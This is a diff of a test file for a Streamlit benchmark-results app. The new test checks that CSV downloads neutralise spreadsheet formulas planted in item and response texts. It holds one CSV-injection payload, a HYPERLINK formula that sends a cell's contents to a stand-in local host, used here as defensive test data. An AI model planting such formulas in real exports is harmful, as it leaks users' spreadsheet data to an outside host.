@@ -330,18 +330,54 @@ def test_every_download_helper_neutralises(monkeypatch):
     assert seen["b.csv"].decode().splitlines() == ["q,n", "'=1+1,-3"]
 
 
-def test_pages_download_only_through_the_helpers():
-    """Every CSV the app offers goes through pages.ui.common (and so through core.csvsafe);
-    the one direct st.download_button is the shipped sample template (our own file)."""
-    direct = {
-        p.name: p.read_text().count("st.download_button(") for p in (ROOT / "pages").glob("*.py")
+FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1)'
+
+
+def test_every_download_the_pages_offer_is_formula_safe(evil_db, monkeypatch):
+    """Every file a page offers, with item and response texts that a spreadsheet would run:
+    each CSV holds them only neutralised (core.csvsafe), and the one file offered as is, the
+    import template, is our own shipped sample."""
+    import csv
+    import io
+
+    import streamlit
+
+    evil_db.execute("UPDATE items SET prompt = ? WHERE item_set = 'evil'", [FORMULA])
+    evil_db.execute("UPDATE responses SET response = ? WHERE run_id = 'evil-run'", [FORMULA])
+    offered: dict[str, bytes] = {}
+    real = streamlit.download_button
+
+    def recording(label, data, *args, **kwargs):
+        raw = data.encode() if isinstance(data, str) else data
+        offered[kwargs["file_name"]] = raw
+        return real(label, data, *args, **kwargs)
+
+    monkeypatch.setattr(streamlit, "download_button", recording)
+    at = _open("pages/import_data.py")
+    at.selectbox(key="dl_set").set_value("evil").run()
+    assert not at.exception, [e.value for e in at.exception]
+    at = _open("pages/misprompt_results.py", view="Runs", run="evil-run", item="evil-1")
+    at.checkbox(key="prep_dl").check().run()
+    assert not at.exception, [e.value for e in at.exception]
+    _open("pages/grid.py", g_bench="misprompt", g_set="evil", g_runs="evil-run")
+    _open("pages/judge_audit.py", audit="evil-audit", annotator="ann", au_view="Export / import")
+
+    samples = ROOT / "data" / "samples"
+    as_is = {n for n, raw in offered.items() if (samples / n).is_file()}
+    assert as_is == {"misprompt_sample.csv"}  # the Import page's template
+    assert offered["misprompt_sample.csv"] == (samples / "misprompt_sample.csv").read_bytes()
+    cells = {
+        name: [c for row in csv.reader(io.StringIO(raw.decode("utf-8"))) for c in row]
+        for name, raw in offered.items()
+        if name not in as_is
     }
-    assert {k: v for k, v in direct.items() if v} == {"import_data.py": 1}
-    # the template offered is the benchmark's built-in sample (data/samples/, written by us)
-    assert (
-        'PROJECT_ROOT / "data" / "samples" / bench.builtin[1]'
-        in (ROOT / "pages" / "import_data.py").read_text()
-    )
+    assert {"evil.csv", "run_evil-run.csv", "labels_evil-audit.csv"} <= set(cells)
+    runnable = {
+        (name, c) for name, cs in cells.items() for c in cs if c.startswith(("=", "@", "\t"))
+    }
+    assert not runnable
+    assert "'" + FORMULA in cells["evil.csv"] and "'" + FORMULA in cells["run_evil-run.csv"]
+    assert any("'" + FORMULA in cs for name, cs in cells.items() if name.startswith("responses_"))
 
 
 # -- database states in the app -------------------------------------------------------------------
@@ -472,7 +508,7 @@ def _all_rows(store: Store) -> dict[str, list]:
     return snapshot(store)
 
 
-def test_init_with_runs_on_the_samples_is_a_no_op(initialised_store, capsys):
+def test_init_with_runs_on_the_samples_is_a_no_op(initialised_store):
     from core.benchmarks import BENCHMARKS
     from core.setup import init
 
